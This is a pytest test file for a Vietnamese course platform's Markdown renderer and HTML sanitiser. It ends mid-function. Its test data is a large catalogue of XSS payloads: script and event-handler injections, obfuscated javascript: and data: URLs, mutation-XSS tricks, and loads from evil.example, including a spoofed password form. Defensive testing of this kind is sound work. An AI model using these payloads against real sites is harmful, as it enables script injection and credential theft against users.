"""Markdown rendering, sanitising and the course loader: pure, no app."""
import html as html_lib
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from learnhub.catalog.loader import ContentError, load_tree
from learnhub.content import render_markdown, safe_id, sanitize, slugify

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="java&#x09;script:alert(1)">x</a>',
    "<svg onload=alert(1)></svg>",
    "<iframe src=//evil.example></iframe>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<body onload=alert(1)>",
    '<p onclick="alert(1)">x</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    '<object data="javascript:alert(1)"></object>',
    '![x](javascript:alert(1))',
    '<a href="  javascript:alert(1)">x</a>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_neutralised(attack):
    html = render_markdown(f"Đoạn văn.\n\n{attack}\n").html.lower()
    assert "<script" not in html
    assert "javascript:" not in html and "vbscript:" not in html and "data:" not in html
    assert " on" not in html.replace("noopener", "")  # no event-handler attribute
    for tag in ("<iframe", "<svg", "<object", "<form", "<style", "<body", "<math"):
        assert tag not in html
    assert "style=" not in html


def test_markdown_features_survive_sanitising():
    rendered = render_markdown(
        "## Phần một\n\ntext\n\n### Chi tiết\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        '!!! note "Ghi nhớ"\n    nội dung\n\n```\ncode <b>x</b>\n```\n\n[link](https://example.org)\n')
    html = rendered.html
    assert '<h2 id="phan-mot">Phần một</h2>' in html
    assert '<div class="table-wrap"><table>' in html and "<th>a</th>" in html and "</table></div>" in html
    assert '<div class="admonition note">' in html and "admonition-title" in html
    assert "<pre><code>code &lt;b&gt;x&lt;/b&gt;" in html
    assert 'href="https://example.org"' in html
    assert 'href="#phan-mot"' in rendered.toc_html and 'href="#chi-tiet"' in rendered.toc_html


def test_toc_is_empty_for_a_lesson_without_sections():
    assert render_markdown("Chỉ một đoạn.").toc_html == ""


def test_slugify_strips_vietnamese_marks():
    assert slugify("Đánh giá nội bộ – Điều 9.2") == "danh-gia-noi-bo-dieu-92"


def test_sanitize_keeps_plain_text_escaped():
    assert sanitize("a < b & c") == "a &lt; b &amp; c"


# --- XSS: a broad vector list checked on the parsed output --------------------
#
# The checker below is written independently of content.py's allow-lists: it
# states what may appear in stored HTML, and every vector's output (lesson
# body, table of contents, and sanitize() on the raw vector) must satisfy it.

ROOT = Path(__file__).resolve().parent.parent

OK_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "code", "col", "colgroup",
    "dd", "del", "details", "div", "dl", "dt", "em", "figcaption", "figure",
    "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li",
    "mark", "ol", "p", "pre", "q", "s", "small", "span", "strong", "sub",
    "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul",
}
NEVER_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "option", "meta", "base", "link", "style", "svg", "math",
    "template", "noscript", "xmp", "plaintext", "title", "body", "html", "head", "isindex",
    "video", "audio", "source", "marquee", "portal", "param", "bgsound", "noembed", "noframes",
    "animate", "set", "use", "foreignobject", "image", "xss", "layer", "ilayer",
}
VOID = {"br", "hr", "img", "col", "wbr"}
OK_ATTRS = {
    "a": {"href", "title", "rel"},
    "abbr": {"title"},
    "img": {"src", "alt", "title", "width", "height"},
    "td": {"colspan", "rowspan", "align"},
    "th": {"colspan", "rowspan", "align", "scope"},
    "ol": {"start"},
    "code": {"class"},
    "div": {"class"},
    "p": {"class"},
    "span": {"class"},
    "li": {"id"},
    "sup": {"id"},
    **{f"h{n}": {"id"} for n in range(1, 7)},
}
OK_CLASSES = {
    "div": {"admonition", "note", "tip", "warning", "example", "important", "danger",
            "caution", "footnote", "toc", "table-wrap"},
    "p": {"admonition-title"},
    "span": {"gap"},
}
OK_SCHEMES = {"http", "https", "mailto", "tel"}
BAD_SCHEMES = ("javascript", "vbscript", "data", "livescript", "mocha", "jar", "file",
               "feed", "view-source", "jscript", "ms-its", "mhtml", "blob", "filesystem")
# Ids the pages use: content must never produce one of them.
APP_IDS = {"attempt-form", "save-status", "submit-attempt", "timer", "main", "toc-title",
           "slot-1", "q1-input", "q3-m0", "username", "password", "title-error", "code-hint"}
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f-\x9f\u00ad\u200b-\u200f\u2028\u2029\ufeff]")


def url_problem(value: str) -> str | None:
    """Why this href/src value is unsafe, decoding harder than any browser would."""
    seen = value
    for _ in range(3):  # entity-decode repeatedly: a double-encoded scheme still counts
        seen = html_lib.unescape(seen)
    compact = _IGNORED_IN_URLS.sub("", seen).lower()
    unquoted = re.sub(r"%([0-9a-f]{2})", lambda m: chr(int(m.group(1), 16)), compact)
    for candidate in (compact, _IGNORED_IN_URLS.sub("", unquoted)):
        if candidate.startswith(BAD_SCHEMES):
            return f"forbidden scheme in {value!r}"
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", candidate)
        if scheme and scheme.group(1) not in OK_SCHEMES:
            return f"scheme {scheme.group(1)!r} in {value!r}"
    if compact.replace("\\", "/").startswith("//"):
        return f"protocol-relative URL {value!r}"
    return None


class _Checker(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.stack: list[str] = []

    def _tag(self, tag, attrs, closing):
        if tag in NEVER_TAGS:
            self.problems.append(f"forbidden tag <{tag}>")
        elif tag not in OK_TAGS:
            self.problems.append(f"unexpected tag <{tag}>")
        names = [name for name, _ in attrs]
        if len(names) != len(set(names)):
            self.problems.append(f"duplicate attribute on <{tag}>: {names}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event handler {name} on <{tag}>")
            elif name not in OK_ATTRS.get(tag, set()) | {"title"}:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src") and (why := url_problem(value)):
                self.problems.append(why)
            if name == "class":
                extra = [c for c in value.split()
                         if c not in OK_CLASSES.get(tag, set())
                         and not (tag == "code" and re.fullmatch(r"language-[\w+#.-]+", c))]
                if extra:
                    self.problems.append(f"class {extra} on <{tag}>")
            if name == "id" and (value in APP_IDS or not re.fullmatch(r"[^\W_][\w:.-]*", value)):
                self.problems.append(f"id {value!r} on <{tag}>")
        if tag == "a":
            rel = dict(attrs).get("rel") or ""
            if "noopener" not in rel.split():
                self.problems.append("<a> without rel=noopener")
        if not closing and tag not in VOID:
            self.stack.append(tag)

    def handle_starttag(self, tag, attrs):
        self._tag(tag, attrs, closing=False)

    def handle_startendtag(self, tag, attrs):
        self._tag(tag, attrs, closing=True)

    def handle_endtag(self, tag):
        if not self.stack or self.stack[-1] != tag:
            self.problems.append(f"unbalanced </{tag}> (open: {self.stack})")
        else:
            self.stack.pop()

    def handle_comment(self, data):
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.problems.append(f"declaration {decl!r}")

    def unknown_decl(self, data):
        self.problems.append(f"declaration {data!r}")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction {data!r}")


def html_problems(out: str) -> list[str]:
    checker = _Checker()
    checker.feed(out)
    checker.close()
    problems = checker.problems
    if checker.stack:
        problems.append(f"unclosed {checker.stack}")
    lowered = out.lower()  # "<" in text is always escaped, so these can only be markup
    for needle in ("<script", "<style", "<iframe", "<svg", "<math", "<!--", "<![cdata["):
        if needle in lowered:
            problems.append(f"{needle!r} in raw output")
    # Stable on re-parse: nothing left for a browser's parser to mutate.
    if _tokens(sanitize(out)) != _tokens(out):
        problems.append("output changes when sanitised again")
    return problems


class _Tokens(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tokens: list[tuple] = []

    def handle_starttag(self, tag, attrs):
        self.tokens.append(("start", tag, tuple(sorted(attrs))))

    def handle_endtag(self, tag):
        self.tokens.append(("end", tag))

    def handle_data(self, data):
        if self.tokens and self.tokens[-1][0] == "text":
            data = self.tokens.pop()[1] + data
        self.tokens.append(("text", data))


def _tokens(out: str) -> list[tuple]:
    parser = _Tokens()
    parser.feed(out.replace("\r\n", "\n").replace("\r", "\n"))  # as a browser's input stream does
    parser.close()
    return parser.tokens


def assert_safe(source: str) -> None:
    rendered = render_markdown(source)
    for label, out in (("html", rendered.html), ("toc", rendered.toc_html),
                       ("sanitize", sanitize(source))):
        problems = html_problems(out)
        assert not problems, f"{label}: {problems}\n--- input\n{source}\n--- output\n{out}"


JS = "alert(1)"
URL_PAYLOADS = [
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"JAVASCRIPT:{JS}",
    f"jav&#x61;script:{JS}",
    f"&#106;avascript:{JS}",
    f"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{JS}",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A alert(1)",
    f"java&#x09;script:{JS}",
    f"java&#x0A;script:{JS}",
    f"java&#x0D;script:{JS}",
    f"java&#9;script:{JS}",
    f"jav&Tab;ascript:{JS}",
    f"jav&NewLine;ascript:{JS}",
    f"java\tscript:{JS}",
    f"java\nscript:{JS}",
    f" \x01javascript:{JS}",
    f"&#x20;javascript:{JS}",
    f"&#14;javascript:{JS}",
    f"javascript&colon;{JS}",
    f"javascript&#58;{JS}",
    f"javascript&#x3a;{JS}",
    "javascript:alert&lpar;1&rpar;",
    f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{JS}//'>",
    "javascript://%0aalert(1)",
    f"\u200bjavascript:{JS}",
    f"&amp;#106;avascript:{JS}",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "vbscript&#58;msgbox(1)",
    "livescript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data&colon;text/html,<script>alert(1)</script>",
    " data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "dat&#x61;:text/html,x",
    "//evil.example/x.js",
    "\\\\evil.example/x",
    "/\\evil.example/x",
]
URL_CONTEXTS = [
    '<a href="{u}">x</a>',
    "<a href='{u}'>x</a>",
    "<a href={u}>x</a>",
    '<img src="{u}">',
    '<img src=x onerror="location=\'{u}\'">',
    '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>x</button></form>',
    '<button formaction="{u}">x</button>',
    '<object data="{u}"></object>',
    '<embed src="{u}">',
    '<svg><a xlink:href="{u}"><text>x</text></a></svg>',
    '<math href="{u}">x</math>',
    '<base href="{u}">',
    '<link rel=stylesheet href="{u}">',
    '<area href="{u}">',
    '<table background="{u}"><tr><td>x</td></tr></table>',
    '<img dynsrc="{u}" lowsrc="{u}">',
    '<video poster="{u}"></video>',
    "[x]({u})",
    '[x]({u} "title")',
    "[x](<{u}>)",
    "![x]({u})",
    "[x][ref]\n\n[ref]: {u}",
    "![x][ref]\n\n[ref]: {u} 'title'",
    "<{u}>",
    "[x]({u}){{: title=t }}",
]
URL_VECTORS = [ctx.format(u=u) for u in URL_PAYLOADS for ctx in URL_CONTEXTS]

TAG_VECTORS = [
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>",
    "\\<script>alert(1)\\</script>",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=# onmouseover=\"alert(1)\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<svg onload=alert(1)></svg>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<p onclick=\"alert(1)\">x</p>",
    "<div onmouseover='alert(1)'>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=https://example.org onfocus=alert(1) autofocus>x</a>",
    "<h2 onpointerenter=alert(1)>x</h2>",
    "<table onmouseover=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onpageshow=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x ONERROR=alert(1)>",
    "<img src=x onerror  =  alert(1)>",
    "<img src=x o&#110;error=alert(1)>",
    # dangerous elements
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object type=text/x-scriptlet data=//evil.example/x.sct></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<applet code=x.class></applet>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"x=y\">",
    "<base href=\"javascript:alert(1)//\">",
    "<base href=//evil.example/>",
    "<link rel=import href=//evil.example/x.html>",
    "<template><script>alert(1)</script></template>",
    "<portal src=//evil.example></portal>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<plaintext><script>alert(1)</script>",
    # style
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<STYLE>@import'//evil.example/x.css';</STYLE>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1));\">x</div>",
    "<p style=\"behavior: url(x.htc)\">x</p>",
    "<span style=\"-moz-binding:url(//evil.example/x.xml#xss)\">x</span>",
    "<div style=\"background-image: u\\rl(javascript:alert(1))\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</div>",
    "<style><img src=x onerror=alert(1)></style>",
    # namespace confusion and mutation XSS
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x\" /></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<select><option><img title=\"</option></select><img src=x onerror=alert(1)>\">",
    "<p>a<table><tr><td>b<p>c</table>d",
    "<a href=https://example.org><a href=javascript:alert(1)>x</a></a>",
    # comments, conditional comments, CDATA, declarations
    "<!-- <script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<![if !IE]><img src=x onerror=alert(1)><![endif]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--->x<img src=x onerror=alert(1)>",
    "<? echo '<script>alert(1)</script>'; ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<!ELEMENT x ANY><img src=x onerror=alert(1)>",
    "<% alert(1) %>",
    # unclosed / malformed tags swallowing what follows
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<img src=x onerror=alert(1)//",
    "<a href=\"https://example.org\" title=\"unclosed>x</a>\n\nrest",
    "<div class=\"admonition warning\">\n\nunclosed div swallowing the page",
    "<a href=https://example.org>unclosed link\n\n## Heading\n\nrest of the lesson",
    "<details><summary>open",
    "<table><tr><td>unclosed",
    "<h2 id=x",
    "</div></div></div></main><script>alert(1)</script>",
    "</p></div><form action=//evil.example><input name=password></form>",
    "<p title=\"</p><script>alert(1)</script>\">x</p>",
    "<a title='<img src=x onerror=alert(1)>' href=https://example.org>x</a>",
    # links: target, rel, UI spoofing, clobbering
    "<a href=https://evil.example target=_blank>x</a>",
    "<a href=https://evil.example target=_blank rel=opener>x</a>",
    "<a href=https://evil.example rel=\"opener\">x</a>",
    "<a href=https://evil.example ping=//evil.example/log>x</a>",
    "<a href=https://evil.example download>x</a>",
    "<p class=\"flash error\">Your session expired</p>",
    "<div class=\"flash\">spoofed message</div>",
    "<span class=\"button primary\">Submit</span>",
    "<code class=\"button flash\">x</code>",
    "<div class=\"admonition warning visually-hidden quiz-actions\">x</div>",
    "<a id=\"defaultAvatar\" href=\"cid:x\">x</a>",
    "<a id=x></a><a id=x name=y href=\"https://evil.example\"></a>",
    "<img name=getElementById src=x>",
    "<form id=attempt-form></form>",
    "<h2 id=\"submit-attempt\">x</h2>",
    "<h2 id=\"timer\">x</h2>",
    "<h2 id=\"save-status\">x</h2>",
    "<h2 id=\"slot-1\">x</h2>",
    "<li id=\"q1-input\">x</li>",
    "<sup id=\"username\">x</sup>",
    "<h3 id=\"__proto__\">x</h3>",
    "<h2 id='x\" onmouseover=\"alert(1)'>x</h2>",
    "<h2 id=\"a b onclick=alert(1)\">x</h2>",
    "<h2 id=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</h2>",
    "<h2 ID=location>x</h2>",
]

MARKDOWN_VECTORS = [
    # heading ids and the table of contents
    "## <img src=x onerror=alert(1)>\n\n## two",
    "## a\"onmouseover=\"alert(1)\n\n## b",
    "## x\" onclick=\"alert(1)\n\n## y",
    "## <script>alert(1)</script>\n\n## z",
    "## Submit attempt\n\n## Timer\n\n### Save status",
    "# Attempt form\n\ntext",
    "## Username\n\n## Password",
    "## Slot 1\n\n## Q1 input",
    "## T {#timer}\n\n## U {#submit-attempt}\n\n[jump](#timer)",
    "## T {: #x onclick=alert(1) }\n\n## U",
    "## T {: style=\"color:red\" onmouseover=alert(1) }\n\n## U",
    "## T {: .flash .error }\n\n## U",
    "## T {: #\"><img/src=x/onerror=alert(1)> }\n\n## U",
    "## &lt;script&gt;alert(1)&lt;/script&gt;\n\n## b",
    "## [x](javascript:alert(1))\n\n## b",
    "## `<img src=x onerror=alert(1)>`\n\n## b",
    "[TOC]\n\n## <svg onload=alert(1)>\n\n## b",
    "Setext <img src=x onerror=alert(1)>\n======\n\nb\n---",
    # admonitions
    '!!! note "<img src=x onerror=alert(1)>"\n    body',
    '!!! note "x\\" onclick=\\"alert(1)"\n    body',
    '!!! warning "<script>alert(1)</script>"\n    <img src=x onerror=alert(1)>',
    '!!! flash error "Spoofed"\n    body',
    '!!! "onclick=alert(1)" "x"\n    body',
    '!!! note\n    [x](javascript:alert(1))',
    '!!! note "</p><script>alert(1)</script><p>"\n    body',
    '!!! note "[x](javascript:alert(1))"\n    body',
    # fenced and indented code
    "```\n<script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```python" onclick="alert(1)\nx\n```',
    "``` { .python onclick=alert(1) #timer }\nx\n```",
    "```{.flash .error}\nx\n```",
    "~~~ javascript:alert(1)\nx\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    # attr_list, md_in_html, abbreviations, footnotes, tables, definition lists
    "para {: onclick=alert(1) }",
    "[x](https://example.org){: onclick=alert(1) target=_blank }",
    "![x](/static/x.png){: onerror=alert(1) }",
    "<div markdown=\"1\" onclick=alert(1)>**b**</div>",
    "<div markdown=\"1\">[x](javascript:alert(1))</div>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "*[HTML]: \" onmouseover=\"alert(1)\n\nHTML",
    "Text[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
    "Text[^x\" onclick=\"alert(1)]\n\n[^x\" onclick=\"alert(1)]: note",
    "Text[^timer]\n\n[^timer]: note",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "| a {: onclick=alert(1) } |\n|---|\n| b |",
    "Term\n:   <script>alert(1)</script>",
    "[x](https://example.org \"title\\\" onclick=\\\"alert(1)\")",
    "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    "![x\" onerror=\"alert(1)](/static/x.png)",
    "![<img src=x onerror=alert(1)>](/static/x.png)",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[x](https://example.org\"onmouseover=\"alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](\njavascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][]\n\n[x]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<mailto:a@example.org?body=<script>alert(1)</script>>",
    "<https://example.org/\"onmouseover=\"alert(1)>",
    "<a@example.org\" onclick=\"alert(1)>",
    "https://example.org/<script>alert(1)</script>",
    "\\[x\\](javascript:alert(1))",
    "[a](javascript:alert(1)\"\") [b](javascript:alert`1`)",
]

VECTORS = list(dict.fromkeys(TAG_VECTORS + MARKDOWN_VECTORS + URL_VECTORS))


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_is_neutralised(vector):
    assert_safe(vector)
    assert_safe(f"Đoạn văn.\n\n{vector}\n\nĐoạn sau.\n")
    assert_safe(f"## Mục\n\n* {vector}\n\n> {vector}\n\n## Hết\n")


def test_vector_list_is_broad():
    assert len(VECTORS) >= 500


@pytest.mark.parametrize("value", [
    "javascript:alert(1)", " JavaScript:alert(1)", "java\tscript:x", "jav&#x61;script:x",
    "&#106;avascript:x", "javascript&colon;x", "&amp;#106;avascript:x", "data:text/html,x",
    "vbscript:x", "//evil.example", "\\\\evil.example", "/\\evil.example", "%6Aavascript:x",
])
def test_checker_flags_bad_urls(value):
    assert url_problem(value)


@pytest.mark.parametrize("out", [
    "<script>alert(1)</script>", '<img src="x" onerror="alert(1)">', '<a href="javascript:x">x</a>',
    '<p style="x">y</p>', "<!-- x -->", '<a href="https://x">x</a>', '<h2 id="timer">x</h2>',
    '<code class="flash">x</code>', "<div><p>x</div>", '<svg><a href="x"></a></svg>',
])
def test_checker_flags_bad_output(out):
    assert html_problems(out)


@pytest.mark.parametrize("value", [
    "https://example.org/a?b=c#d", "http://example.org", "mailto:a@example.org", "tel:+84123",
    "/courses/qms-basics", "../bai-2", "bai-2", "#phan-mot", "?page=2", "/static/x.png",
])
def test_checker_accepts_good_urls(value):
    assert url_problem(value) is None


# Pieces that combine into HTML, Markdown and URL syntax in every order.
FRAGMENTS = [
    "<", ">", "/", "</", "/>", "\"", "'", "`", "=", " ", "\t", "\n", "\n\n", "    ", "&", "&#", ";",
    "&#x6A;", "&#106;", "&colon;", "&#58;", "&Tab;", "&NewLine;", "%0a", "\x00", "\\",
    "script", "img", "svg", "math", "iframe", "style", "a", "h2", "div", "p", "code", "table",
    "details", "object", "embed", "form", "base", "meta", "template", "noscript", "textarea", "xmp",
    " src=x", " href=", " onerror=alert(1)", " onload=alert(1)", " on", "error", " style=",
    " id=", " class=", " srcdoc=", " formaction=", " xlink:href=", " target=_blank",
    "javascript:", "java", "script:", "vbscript:", "data:text/html,", "alert(1)",
    "expression(", "url(", "//evil.example", "https://example.org",
    "<!--", "-->", "<![CDATA[", "]]>", "<!", "<?",
    "[", "]", "(", ")", "![", "](", "]:", "[^1]", "[TOC]", "{:", "}", "{#", "#timer", ".flash",
    "# ", "## ", "!!! note ", "!!! ", "```", "~~~", "*", "**", "_", "|", "|---|", "> ", "- ", "1. ",
    "*[", "markdown=\"1\"", "Đoạn", "ghi nhớ",
]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), max_size=40).map("".join))
def test_random_markup_never_yields_dangerous_output(source):
    assert_safe(source)


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(URL_PAYLOADS), st.sampled_from(URL_CONTEXTS),
       st.sampled_from(["", "x", "\n\n", "## ", "* ", "> ", "<p>", "<div markdown=1>\n", "!!! note\n    "]))
def test_url_payloads_in_any_context(payload, context, prefix):
    assert_safe(prefix + context.format(u=payload))


def test_quiz_text_paths_are_sanitised():
    """Quiz text goes through render_markdown/sanitize/escape: every format, inline or not."""
    from learnhub.quizzes.rendering import render_text
    for vector in VECTORS[::3]:
        for fmt in ("markdown", "html", "moodle", "plain"):
            for inline in (False, True):
                out = render_text(vector, fmt, inline=inline)
                problems = [p for p in html_problems(out) if p != "output changes when sanitised again"]
                assert not problems, (fmt, inline, vector, out, problems)


# --- legitimate content keeps working ----------------------------------------

def test_links_images_and_code_keep_working():
    html = render_markdown(
        "[web](https://example.org/a?b=1&c=2#d) [plain](http://example.org) "
        "[mail](mailto:tro-giup@example.org) [call](tel:+842043123456) "
        "[next](/courses/qms-basics/bai-2) [rel](bai-3) [up](../glossary) [here](#tom-tat) "
        "<https://example.org/auto>\n\n"
        "![logo](/static/logo.png \"Logo\") ![pic](images/a.png)\n\n"
        "```python\nprint('<b>')\n```\n\n"
        "<img src=\"/static/x.png\" alt=\"x\" width=\"120\" height=\"80\">\n"
    ).html
    for href in ('https://example.org/a?b=1&amp;c=2#d', "http://example.org", "mailto:tro-giup@example.org",
                 "tel:+842043123456", "/courses/qms-basics/bai-2", "bai-3", "../glossary", "#tom-tat",
                 "https://example.org/auto"):
        assert f'href="{href}"' in html
    assert html.count('rel="noopener noreferrer"') == 9
    assert 'src="/static/logo.png"' in html and 'title="Logo"' in html and 'src="images/a.png"' in html
    assert '<code class="language-python">print(\'&lt;b&gt;\')' in html
    assert 'width="120"' in html and 'height="80"' in html
    assert not html_problems(html)


def test_footnotes_abbr_definition_lists_and_details_survive():
    html = render_markdown(
        "ISO[^1] và *HTML*.\n\n[^1]: Tiêu chuẩn.\n\n*[ISO]: International Organization for Standardization\n\n"
        "Thuật ngữ\n:   Định nghĩa\n\n<details><summary>Xem</summary>Nội dung</details>\n").html
    assert '<sup id="fnref:1"><a href="#fn:1"' in html and '<li id="fn:1">' in html
    assert '<abbr title="International Organization for Standardization">ISO</abbr>' in html
    assert "<dl>" in html and "<dt>Thuật ngữ</dt>" in html
    assert "<details><summary>Xem</summary>Nội dung</details>" in html
    assert not html_problems(html)


def test_every_admonition_type_keeps_its_class():
    for kind in ("note", "tip", "warning", "example", "important", "danger", "caution"):
        html = render_markdown(f'!!! {kind} "Tiêu đề"\n    nội dung\n').html
        assert f'<div class="admonition {kind}">' in html
        assert '<p class="admonition-title">Tiêu đề</p>' in html


def test_ids_the_app_uses_are_suffixed_everywhere():
    rendered = render_markdown(
        "## Submit attempt\n\n## Timer\n\n## Khái niệm\n\n## Đặt lại {#save-status}\n\n"
        "[về đầu](#submit-attempt) [lưu](#save-status)\n")
    html, toc = rendered.html, rendered.toc_html
    for app_id in ("submit-attempt", "timer", "save-status"):
        assert f'id="{app_id}"' not in html
        assert f'id="{app_id}-muc"' in html
        assert f'href="#{app_id}-muc"' in toc
    assert 'href="#submit-attempt-muc"' in html and 'href="#save-status-muc"' in html
    assert '<h2 id="khai-niem">Khái niệm</h2>' in html and 'href="#khai-niem"' in toc


def test_ids_are_dropped_from_links_and_restricted_to_word_characters():
    html = render_markdown('<a id="x" href="https://example.org">x</a>\n\n<h2 id="a&quot;b">y</h2>\n').html
    assert "id=" not in html


def test_classes_are_limited():
